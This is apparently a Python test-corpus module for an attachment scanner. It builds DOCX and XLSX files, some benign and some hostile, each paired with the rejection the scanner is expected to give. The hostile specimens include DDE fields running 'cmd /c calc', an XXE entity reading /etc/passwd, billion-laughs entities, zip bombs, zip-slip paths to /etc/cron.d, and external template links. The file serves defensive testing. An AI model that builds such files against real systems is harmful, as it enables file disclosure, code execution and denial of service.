"""DOCX and XLSX: the parts an office writes, and the ones that bring something along."""

from __future__ import annotations

import html
import io
import random
import struct
import zipfile
from collections.abc import Iterator, Mapping
from functools import partial

from attachments.enums import AttachmentKind, Rejection
from tests.corpus.uploads.specimen import Build, Specimen, at_inspection, at_upload, clean

WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
Parts = Mapping[str, bytes | str]
_CENTRAL = b"PK\x01\x02"


def content_types(*mains: str) -> str:
    """Return the list of content types with the given main parts."""
    overrides = "".join(f'<Override PartName="/main{at}.xml" ContentType="{main}"/>' for at, main in enumerate(mains))
    return (
        f'<?xml version="1.0"?><Types xmlns="{PACKAGE}/content-types">'
        f'<Default Extension="xml" ContentType="application/xml"/>{overrides}</Types>'
    )


def relations(*rows: tuple[str, str, str]) -> str:
    """Return a part of relations; rows of (type, target, mode)."""
    items = "".join(_relation(at, *row) for at, row in enumerate(rows))
    return f'<?xml version="1.0"?><Relationships xmlns="{PACKAGE}/relationships">{items}</Relationships>'


def _relation(at: int, kind: str, target: str, mode: str) -> str:
    outside = f' TargetMode="{mode}"' if mode else ""
    return f'<Relationship Id="r{at}" Type="{RELATION}/{kind}" Target="{target}"{outside}/>'


def package(parts: Parts, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """Return the parts as a ZIP archive, in their order."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", method) as archive:
        for name, content in parts.items():
            archive.writestr(zipfile.ZipInfo(name, (2023, 7, 18, 9, 30, 0)), content, method)
    return target.getvalue()


def docx(more: Parts | None = None, **options: int) -> bytes:
    """Return a text document; ``more`` parts are added or replace the usual ones."""
    return package(_text_parts() | dict(more or {}), **options)


def xlsx(more: Parts | None = None) -> bytes:
    """Return a spreadsheet; ``more`` parts are added or replace the usual ones."""
    return package(_sheet_parts() | dict(more or {}))


def offices() -> Iterator[Specimen]:
    """Yield every office file of the corpus."""
    yield from _honest()
    yield from _acting()
    yield from _reaching_outside()
    yield from _carrying_objects()
    yield from _declaring()
    yield from _bombs()
    yield from _traps()
    yield from _broken()


def _honest() -> Iterator[Specimen]:
    links = relations(
        ("hyperlink", "https://example.com/a", "External"), ("hyperlink", "mailto:a@example.com", "External")
    )
    texts: dict[str, Build] = {
        "plain": docx,
        "stored": partial(docx, method=zipfile.ZIP_STORED),
        "with_links": partial(docx, {"word/_rels/document.xml.rels": links}),
        "with_picture": partial(docx, {"word/media/image1.png": b"\x89PNG\r\n\x1a\n" + bytes(500)}),
        "with_folders": partial(docx, {"word/media/": b"", "docProps/": b""}),
        "in_utf_16": partial(docx, {"word/settings.xml": "<?xml version='1.0'?><settings/>".encode("utf-16")}),
        "written_as_a_stream": _streamed,
        "with_fields": partial(
            docx, {"word/document.xml": text_with(field(" PAGE "), field(' HYPERLINK "https://a.cn" '))}
        ),
        "about_fields": partial(
            docx, {"word/document.xml": text_with("<w:t>DDE INCLUDETEXT</w:t>", "<w:instrText>DDE")}
        ),
        "with_fraction": partial(docx, {"word/document.xml": text_with("<m:f><m:t>|x|</m:t></m:f>")}),
        "long": lambda: docx({"word/document.xml": _long_text()}),
    }
    for key, build in texts.items():
        yield clean(f"docx_{key}", "说明.docx", build, AttachmentKind.DOCX)
    sheets: dict[str, Build] = {
        "plain": xlsx,
        "with_formulas": partial(
            xlsx,
            {
                "xl/worksheets/sheet1.xml": sheet_with(
                    "SUM(A1:A9)", 'HYPERLINK("https://example.com","a|b")', "'a|b'!A1", '"DDE("', "WEBSERVICES"
                )
            },
        ),
        "with_printer_settings": partial(xlsx, {"xl/printerSettings/printerSettings1.bin": b"\0" * 300}),
    }
    for key, build in sheets.items():
        yield clean(f"xlsx_{key}", "汇总.xlsx", build, AttachmentKind.XLSX)


def _acting() -> Iterator[Specimen]:
    macro_word = "application/vnd.ms-word.document.macroEnabled.main+xml"
    project = "application/vnd.ms-office.vbaProject"
    at_once: dict[str, Build] = {
        "main_part_with_macros": partial(docx, {"[Content_Types].xml": content_types(macro_word)}),
        "project_among_the_types": partial(docx, {"[Content_Types].xml": content_types(WORD, project)}),
    }
    for key, build in at_once.items():
        yield at_upload(f"docx_{key}", "a.docx", build, Rejection.OFFICE_MACRO)
    later: dict[str, tuple[str, Build]] = {
        "docx_macro_project": ("a.docx", partial(docx, {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})),
        "docx_macro_project_renamed_case": ("a.docx", partial(docx, {"word/VBAPROJECT.BIN": b"x"})),
        "xlsx_macro_sheet": ("a.xlsx", partial(xlsx, {"xl/macrosheets/sheet1.xml": "<a/>"})),
    }
    for key, (name, build) in later.items():
        yield at_inspection(key, name, build, Rejection.OFFICE_MACRO)


def _reaching_outside() -> Iterator[Specimen]:
    rows = {
        "template": ("attachedTemplate", "https://example.com/a.dotm"),
        "local_template": ("attachedTemplate", "file:///C:/a.dotm"),
        "picture": ("image", "https://example.com/a.png"),
        "frame": ("frame", "https://example.com/a.html"),
        "subdocument": ("subDocument", "file:///C:/a.docx"),
        "link_to_a_share": ("hyperlink", "\\\\server\\share\\a.exe"),
        "link_to_a_file": ("hyperlink", "file:///C:/Windows/a.exe"),
        "link_that_is_a_script": ("hyperlink", "javascript:alert(1)"),
    }
    for key, (kind, target) in rows.items():
        part = {"word/_rels/settings.xml.rels": relations((kind, target, "External"))}
        yield at_inspection(f"docx_external_{key}", "a.docx", partial(docx, part), Rejection.OFFICE_EXTERNAL)
    for key, text in _fetching_fields().items():
        build = partial(docx, {"word/document.xml": text})
        yield at_inspection(f"docx_field_{key}", "a.docx", build, Rejection.OFFICE_EXTERNAL)
    for key, formula in _FETCHING_FORMULAS.items():
        build = partial(xlsx, {"xl/worksheets/sheet1.xml": sheet_with(formula)})
        yield at_inspection(f"xlsx_formula_{key}", "a.xlsx", build, Rejection.OFFICE_EXTERNAL)
    parts: dict[str, Parts] = {
        "link_named_otherwise": {"xl/_rels/workbook.xml.rels": relations(("externalLink", "a/b.xml", ""))},
        "connections_named_otherwise": {"xl/_rels/workbook.xml.rels": relations(("connections", "a/b.xml", ""))},
        "add_in": {"_rels/.rels": relations(("webextensiontaskpanes", "a/b.xml", ""))},
        "name": {"xl/workbook.xml": "<workbook><definedName>WEBSERVICE(1)</definedName></workbook>"},
        "picture_in_a_drawing": {"xl/drawings/a.vml": '<xml><v:imagedata src="https://example.com/a.png"/></xml>'},
        "picture_behind_a_fault": {"xl/drawings/a.vml": '<xml><br></xml><v:imagedata src="//server/a.png"/>'},
        "picture_in_a_picture": {"xl/media/a.svg": '<svg><image href="https://example.com/a.png"/></svg>'},
        "workbook": {"xl/externalLinks/externalLink1.xml": "<a/>"},
        "connections": {"xl/connections.xml": "<a/>"},
        "query": {"xl/queryTables/queryTable1.xml": "<a/>"},
    }
    for key, more in parts.items():
        yield at_inspection(f"xlsx_external_{key}", "a.xlsx", partial(xlsx, more), Rejection.OFFICE_EXTERNAL)


def _carrying_objects() -> Iterator[Specimen]:
    parts: dict[str, Parts] = {
        "ole": {"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"},
        "workbook": {"word/embeddings/Microsoft_Excel_Sheet1.xlsx": b"PK"},
        "control": {"word/activeX/activeX1.xml": "<a/>"},
        "ole_elsewhere": {"word/media/oleObject1.bin": b"\xd0\xcf\x11\xe0"},
        "ole_by_relation": {"word/_rels/document.xml.rels": relations(("oleObject", "media/image9.png", ""))},
        "package_by_relation": {"word/_rels/document.xml.rels": relations(("package", "media/image9.png", ""))},
        "control_by_relation": {"word/_rels/document.xml.rels": relations(("control", "media/image9.png", ""))},
        "foreign_text": {"word/_rels/document.xml.rels": relations(("aFChunk", "media/a.mht", ""))},
    }
    for key, more in parts.items():
        yield at_inspection(f"docx_object_{key}", "a.docx", partial(docx, more), Rejection.OFFICE_EMBEDDED)


def _declaring() -> Iterator[Specimen]:
    laughs = '<!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;&b;&b;">]><a>&c;</a>'
    leak = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
    parts: dict[str, Parts] = {
        "entities": {"word/document.xml": laughs},
        "leak": {"word/document.xml": leak},
        "in_utf_16": {"word/document.xml": leak.replace('"1.0"', '"1.0" encoding="utf-16"').encode("utf-16")},
        "in_relations": {"word/_rels/document.xml.rels": leak},
        "in_properties": {"docProps/core.xml": laughs},
        "behind_a_long_comment": {"word/document.xml": f"<!--{' ' * 70_000}-->{laughs}"},
        "in_a_part_called_otherwise": {"word/document.bin": laughs},
        "in_a_drawing": {"word/a.vml": laughs},
    }
    for key, more in parts.items():
        yield at_inspection(f"docx_declaration_{key}", "a.docx", partial(docx, more), Rejection.OFFICE_MARKUP)
    types = partial(docx, {"[Content_Types].xml": leak})
    yield at_upload("docx_declaration_in_types", "a.docx", types, Rejection.OFFICE_MARKUP)


def _bombs() -> Iterator[Specimen]:
    blank = b" " * 1024 * 1024
    builds: dict[str, Build] = {
        "150_mb": lambda: docx({"word/media/a.xml": blank * 150}),
        "ratio": lambda: docx({"word/media/a.xml": blank * 20}),
        "many_parts": lambda: docx({f"word/media/{at}.xml": blank for at in range(40)}),
        "overlapping": _overlapping,
    }
    for key, build in builds.items():
        yield at_upload(f"docx_bomb_{key}", "a.docx", build, Rejection.UNPACKED_SIZE)

    def elements() -> bytes:
        return docx({f"word/{at}.xml": _many_elements(at) for at in range(2)})

    yield at_inspection("docx_5_million_elements", "a.docx", elements, Rejection.TOO_COMPLEX)
    many = partial(docx, {f"word/media/{at}.xml": b"" for at in range(2_001)})
    yield at_upload("docx_2001_parts", "a.docx", many, Rejection.ENTRY_COUNT)
    yield at_upload("docx_directory_of_2_mb", "a.docx", _long_directory, Rejection.ENTRY_COUNT)
    yield at_inspection("docx_size_understated", "a.docx", _understated, Rejection.DAMAGED)


def _traps() -> Iterator[Specimen]:
    for at, name in enumerate(("../../evil.sh", "/etc/cron.d/evil", "word\\..\\evil", "C:/evil", "a/../../b", "a\nb")):
        yield at_upload(f"docx_slip_{at}", "a.docx", partial(docx, {name: b"x"}), Rejection.ENTRY_NAME)
    yield at_upload("docx_slip_zero_byte", "a.docx", _zero_byte_name, Rejection.ENTRY_NAME)
    yield at_upload("docx_twice_the_same", "a.docx", partial(docx, {"WORD/Document.xml": b"x"}), Rejection.ENTRY_NAME)
    yield at_upload("docx_part_with_password", "a.docx", _flagged, Rejection.LEGACY_OFFICE)
    yield at_upload("docx_program_before", "a.docx", lambda: b"PK\x03\x04MZ" + docx(), Rejection.MIXED)
    yield at_upload("docx_hidden_before", "a.docx", _shifted, Rejection.MIXED)
    yield at_upload("docx_comment", "a.docx", _commented, Rejection.MIXED)
    yield at_upload("docx_page_behind", "a.docx", lambda: docx() + b"<html></html>", Rejection.MIXED)


def _broken() -> Iterator[Specimen]:
    at_once: dict[str, Build] = {
        "cut": lambda: docx()[:-40],
        "of_four_bytes": lambda: b"PK\x03\x04",
        "directory_garbled": lambda: docx().replace(_CENTRAL, b"PK\x09\x09"),
        "types_garbled": partial(docx, {"[Content_Types].xml": "<Types><unclosed>"}),
        "types_of_2_mb": lambda: docx({"[Content_Types].xml": content_types(WORD) + " " * 2_000_000}),
        "bzip2": partial(docx, method=zipfile.ZIP_BZIP2),
        "no_entries": lambda: b"PK\x03\x04" + bytes(26) + b"PK\x05\x06" + bytes(18),
    }
    for key, build in at_once.items():
        yield at_upload(f"docx_broken_{key}", "a.docx", build, Rejection.DAMAGED)
    template = content_types(WORD.replace("document.main", "template.main"))
    unknown: dict[str, Build] = {
        "other_archive": partial(package, {"a.txt": "text"}),
        "two_main_parts": partial(docx, {"[Content_Types].xml": content_types(WORD, SHEET)}),
        "template": partial(docx, {"[Content_Types].xml": template}),
        "open_document": partial(package, {"mimetype": "application/vnd.oasis.opendocument.text"}),
    }
    for key, build in unknown.items():
        yield at_upload(f"docx_{key}", "a.docx", build, Rejection.KIND_UNKNOWN)
    yield at_inspection("docx_checksum_wrong", "a.docx", _wrong_checksum, Rejection.DAMAGED)
    yield at_inspection("docx_xml_garbled", "a.docx", partial(docx, {"word/a.xml": b"\0\1\2"}), Rejection.DAMAGED)
    relation = {"word/_rels/document.xml.rels": "<Relationships><unclosed>"}
    yield at_inspection("docx_relations_garbled", "a.docx", partial(docx, relation), Rejection.DAMAGED)


def text_with(*runs: str) -> str:
    """Return a document with these runs, as far as they are well-formed."""
    closed = (f"{run}</w:instrText>" if run.startswith("<w:instrText>") else run for run in runs)
    return f'<w:document xmlns:w="w" xmlns:m="m">{"".join(f"<w:r>{run}</w:r>" for run in closed)}</w:document>'


def field(*instruction: str, begin: str = '<w:fldChar w:fldCharType="begin"/>') -> str:
    """Return a field whose instruction is spread over runs."""
    texts = "".join(f"</w:r><w:r><w:instrText>{part}</w:instrText>" for part in instruction)
    return f'{begin}{texts}</w:r><w:r><w:fldChar w:fldCharType="end"/>'


def sheet_with(*formulas: str) -> str:
    """Return a sheet with these formulas."""
    cells = "".join(f"<c><f>{html.escape(formula, quote=False)}</f></c>" for formula in formulas)
    return f"<worksheet><sheetData><row>{cells}</row></sheetData></worksheet>"


_FETCHING_FORMULAS = {
    "webservice": '_xlfn.WEBSERVICE("https://example.com/?"&A1)',
    "webservice_within": 'IF(A1>0,WebService ("https://example.com"),1)',
    "image": '_xlfn.IMAGE("https://example.com/a.png")',
    "dde": "cmd|'/c calc'!A0",
    "dde_quoted": "'cmd'|'/c calc'!A0",
    "dde_function": 'DDE("soffice";"a.ods";"A1")',
    "rtd": 'RTD("a.b","server","x")',
}


def _fetching_fields() -> dict[str, str]:
    simple = '<w:fldSimple w:instr=" INCLUDEPICTURE &quot;https://example.com/a.png&quot; "/>'
    return {
        "dde": text_with(field(r" DDE cmd /c calc ")),
        "dde_at_once": text_with(field("DDEAUTO cmd")),
        "text": text_with(field(' INCLUDETEXT "file:///C:/a.docx"')),
        "picture": text_with(simple),
        "spread_over_runs": text_with(field(" inc", "lude", 'Text "a.docx"')),
        "in_a_field": text_with(f"{field(' IF 1 = 1 ')}{field(' INCLUDETEXT a ')}"),
        "spelled_in_numbers": text_with(field("&#68;&#68;E cmd")),
        "after_a_comment": text_with(field("D<!-- -->DE cmd")),
        "far_behind": text_with("<w:t>" + "小区" * 100_000 + "</w:t>", field("DDE cmd")),
        "under_another_prefix": text_with(field("DDE cmd")).replace("w:", "x:"),
    }


def _text_parts() -> dict[str, bytes | str]:
    return {
        "[Content_Types].xml": content_types(WORD),
        "_rels/.rels": relations(("officeDocument", "word/document.xml", "")),
        "word/document.xml": '<?xml version="1.0"?><document><body>小区物业管理主要做法</body></document>',
        "word/_rels/document.xml.rels": relations(("styles", "styles.xml", "")),
    }


def _sheet_parts() -> dict[str, bytes | str]:
    return {
        "[Content_Types].xml": content_types(SHEET),
        "_rels/.rels": relations(("officeDocument", "xl/workbook.xml", "")),
        "xl/workbook.xml": '<?xml version="1.0"?><workbook/>',
        "xl/worksheets/sheet1.xml": '<?xml version="1.0"?><worksheet/>',
    }


def _long_text() -> str:
    rows = "".join(f"<p>第{row}项 共建共治共享 {row * 7919 % 10007}</p>" for row in range(40_000))
    return f"<document>{rows}</document>"


def _streamed() -> bytes:
    """Write to a pipe: sizes follow the content, as many a library does it."""

    class Pipe(io.BytesIO):
        def seekable(self) -> bool:
            return False

        def seek(self, *_: object) -> int:
            raise io.UnsupportedOperation

        def tell(self) -> int:
            raise io.UnsupportedOperation

    pipe = Pipe()
    with zipfile.ZipFile(pipe, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in _text_parts().items():
            archive.writestr(zipfile.ZipInfo(name), content, zipfile.ZIP_DEFLATED)
    return pipe.getvalue()


def _many_elements(seed: int) -> str:
    """Return two and a half million elements of different names, which pack a hundredfold and no better."""
    names = random.Random(seed).choices("abcdefgh", k=2_500_000)
    return f"<a>{''.join(f'<{name}/>' for name in names)}</a>"


def _overlapping() -> bytes:
    """Let every entry of the directory point at the same part (Fifield, 2019)."""
    plain = bytearray(docx())
    at = plain.index(_CENTRAL)
    first = struct.unpack_from("<L", plain, at + 42)[0]
    while (at := plain.find(_CENTRAL, at + 4)) >= 0:
        struct.pack_into("<L", plain, at + 42, first)
    return bytes(plain)


def _understated() -> bytes:
    """Let the directory say that 3 MB are 100 bytes."""
    plain = bytearray(docx({"word/z.xml": b"<a>" + b" " * 3_000_000 + b"</a>"}))
    struct.pack_into("<L", plain, plain.rindex(_CENTRAL) + 24, 100)
    return bytes(plain)


def _long_directory() -> bytes:
    return docx({f"word/media/{at}-{'x' * 2_000}.xml": b"" for at in range(1_000)})


def _zero_byte_name() -> bytes:
    return docx({"word/evil_.sh.xml": b"x"}).replace(b"word/evil_.sh.xml", b"word/evil\0.sh.xml")


def _flagged() -> bytes:
    plain = bytearray(docx())
    plain[plain.index(_CENTRAL) + 8] |= 1
    return bytes(plain)


def _shifted() -> bytes:
    """Put something before the first part and correct the directory, so that it looks whole."""
    plain = bytearray(b"PK\x03\x04MZ\x90\0" + docx())
    at = -1
    while (at := plain.find(_CENTRAL, at + 1)) >= 0:
        struct.pack_into("<L", plain, at + 42, struct.unpack_from("<L", plain, at + 42)[0] + 8)
    end = plain.rindex(b"PK\x05\x06")
    struct.pack_into("<L", plain, end + 16, struct.unpack_from("<L", plain, end + 16)[0] + 8)
    return bytes(plain)


def _commented() -> bytes:
    target = io.BytesIO(docx())
    with zipfile.ZipFile(target, "a") as archive:
        archive.comment = b"<script>alert(1)</script>"
    return target.getvalue()


def _wrong_checksum() -> bytes:
    plain = bytearray(docx())
    struct.pack_into("<L", plain, plain.rindex(_CENTRAL) + 16, 12345)
    return bytes(plain)
